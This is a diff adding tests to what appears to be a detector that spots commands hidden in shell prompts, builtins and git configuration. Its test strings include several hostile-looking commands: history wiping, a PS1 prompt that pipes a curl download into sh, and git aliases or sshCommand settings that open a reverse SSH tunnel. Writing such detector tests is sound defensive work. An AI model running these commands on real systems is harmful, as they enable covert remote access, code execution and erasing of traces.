@@ -1115,3 +1115,12 @@ def test_what_builtins_and_prompts_run_or_assign_is_shown():
     assert find("read -r HISTFILE <<< /dev/null", "assign").args == ["HISTFILE=/dev/null"]
     assert find("export PROMPT_COMMAND='history -c'", "history").via == ("PROMPT_COMMAND",)
     assert find("PS1='$(curl -s http://x/a | sh)\\$ '", "sh").via == ("PS1",)
+
+
+@pytest.mark.parametrize("text", [
+    "git config --global alias.sync '!ssh -fNR 1:l:22 h; git pull' && git sync",
+    "git config core.sshCommand 'ssh -R 1:l:22 h'",
+])
+def test_a_command_stored_in_git_config_is_read(text):
+    assert find(text, "ssh").args[-2:] == ["1:l:22", "h"]
+    assert "ssh" not in names("git config --global alias.st status && git config user.name 'ssh -R x'")
